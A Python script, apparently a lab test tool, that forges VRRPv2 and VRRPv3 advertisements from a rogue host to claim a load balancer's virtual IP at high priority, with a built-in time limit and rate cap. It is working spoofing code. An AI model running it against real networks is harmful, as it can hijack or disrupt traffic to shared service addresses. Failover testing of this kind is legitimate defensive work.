"""A rogue VRRP speaker: well-formed adverts from a host that is not one of the pair, at a fixed rate for a
bounded time. Run as root inside a namespace on the frontend network; prints a JSON summary when done.

    rogue_vrrp.py --source 192.168.10.253 --router-id 1 --priority 254 --vip 192.168.10.3 \
        --advert-interval 1 --version 2 --version 3 --to 224.0.0.18 --to 192.168.10.4 --duration 6

What it implements, IPv4 only:
- VRRPv2, RFC 3768 section 5.1 (packet format) and 5.3 (fields): version 2, type 1 (advertisement),
  virtual router id, priority, count of addresses, auth type 0 (no authentication, 5.3.6), advert interval
  in whole seconds (5.3.7), checksum over the VRRP message alone (5.3.8), the addresses, 8 bytes of zero
  authentication data (5.3.10).
- VRRPv3, RFC 5798 section 5.1 (packet format) and 5.2 (fields): version 3, type 1, virtual router id,
  priority, count of addresses, 4 reserved bits of zero and the maximum advert interval in centiseconds
  (5.2.7), checksum over the message and the IPv4 pseudo-header (5.2.8), the addresses.
- The IP header the kernel builds: protocol 112 (RFC 3768 5.2.4, RFC 5798 5.1.1.4), TTL 255 (RFC 3768
  5.2.3, RFC 5798 5.1.1.3), sent to the group 224.0.0.18 (5.2.2 / 5.1.1.2) or to a unicast peer address
  (what keepalived's `unicast_peer` sends).
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import socket
import struct
import sys
import time

VRRP_PROTOCOL = 112
VRRP_TTL = 255
ADVERTISEMENT = 1
NO_AUTHENTICATION = 0
MAX_DURATION = 120.0  # seconds: a rogue run by a test must end by itself
MIN_PERIOD = 0.01  # seconds between two rounds of adverts: bounds the packet rate


def internet_checksum(data: bytes) -> int:
    """RFC 1071: the 16-bit one's complement of the one's complement sum (what both RFCs name)."""
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def vrrp_v2_advert(router_id: int, priority: int, addresses: list[str], advert_seconds: int) -> bytes:
    """RFC 3768 5.1: the checksum covers the VRRP message only (5.3.8)."""
    body = b"".join(socket.inet_aton(a) for a in addresses) + bytes(8)  # authentication data, unused (5.3.10)
    header = struct.pack("!BBBBBBH", (2 << 4) | ADVERTISEMENT, router_id, priority, len(addresses),
                         NO_AUTHENTICATION, advert_seconds, 0)
    checksum = internet_checksum(header + body)
    return header[:6] + struct.pack("!H", checksum) + body


def vrrp_v3_advert(router_id: int, priority: int, addresses: list[str], advert_centiseconds: int,
                   source: str, destination: str) -> bytes:
    """RFC 5798 5.1: the checksum also covers the IPv4 pseudo-header (5.2.8), so it depends on both addresses."""
    body = b"".join(socket.inet_aton(a) for a in addresses)
    header = struct.pack("!BBBBHH", (3 << 4) | ADVERTISEMENT, router_id, priority, len(addresses),
                         advert_centiseconds & 0x0FFF, 0)  # the 4 reserved bits are zero (5.2.6)
    pseudo_header = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack(
        "!BBH", 0, VRRP_PROTOCOL, len(header) + len(body))
    checksum = internet_checksum(pseudo_header + header + body)
    return header[:6] + struct.pack("!H", checksum) + body


def adverts(args: argparse.Namespace) -> list[tuple[bytes, str]]:
    """One round: every version to every destination, in a fixed order."""
    packets = []
    for version in args.version:
        for destination in args.to:
            if version == 2:
                packet = vrrp_v2_advert(args.router_id, args.priority, [args.vip], max(1, round(args.advert_interval)))
            else:
                packet = vrrp_v3_advert(args.router_id, args.priority, [args.vip], round(args.advert_interval * 100),
                                        args.source, destination)
            packets.append((packet, destination))
    return packets


def open_socket(source: str) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP_PROTOCOL)
    sock.bind((source, 0))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, VRRP_TTL)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, VRRP_TTL)
    # The group has no route in the namespace: send it out of the interface that holds the source address.
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
    return sock


def parse(argv: list[str]) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--source", required=True, help="this host's address on the frontend network")
    parser.add_argument("--router-id", type=int, required=True, help="the lab's virtual_router_id (1-255)")
    parser.add_argument("--priority", type=int, default=254, help="1-254 (255 is the address owner's)")
    parser.add_argument("--vip", required=True, help="the address the adverts claim")
    parser.add_argument("--advert-interval", type=float, required=True, help="seconds, as the lab's advert_int")
    parser.add_argument("--version", type=int, action="append", choices=(2, 3), required=True)
    parser.add_argument("--to", action="append", required=True, help="224.0.0.18 or a load balancer's address")
    parser.add_argument("--period", type=float, default=0.1, help="seconds between two rounds of adverts")
    parser.add_argument("--duration", type=float, required=True, help=f"seconds, at most {MAX_DURATION:g}")
    args = parser.parse_args(argv)
    for name, value, low, high in (("--router-id", args.router_id, 1, 255), ("--priority", args.priority, 1, 254),
                                   ("--period", args.period, MIN_PERIOD, 10), ("--duration", args.duration, 0, MAX_DURATION),
                                   ("--advert-interval", args.advert_interval, 0.01, 40.95)):
        if not low <= value <= high:
            parser.error(f"{name} {value}: expected {low} to {high}")
    for address in [args.source, args.vip, *args.to]:
        try:
            ipaddress.IPv4Address(address)
        except ValueError:
            parser.error(f"{address!r}: expected an IPv4 address")
    return args


def main(argv: list[str]) -> int:
    args = parse(argv)
    sock, packets = open_socket(args.source), adverts(args)
    started = time.monotonic()
    rounds = 0
    # Bounded twice: by time, and by the number of rounds that time allows at the period.
    for rounds in range(1, int(args.duration / args.period) + 2):
        for packet, destination in packets:
            sock.sendto(packet, (destination, 0))
        next_round = started + rounds * args.period
        if next_round >= started + args.duration:
            break
        time.sleep(max(0.0, next_round - time.monotonic()))
    print(json.dumps({"source": args.source, "rounds": rounds, "sent": rounds * len(packets),
                      "seconds": round(time.monotonic() - started, 3)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
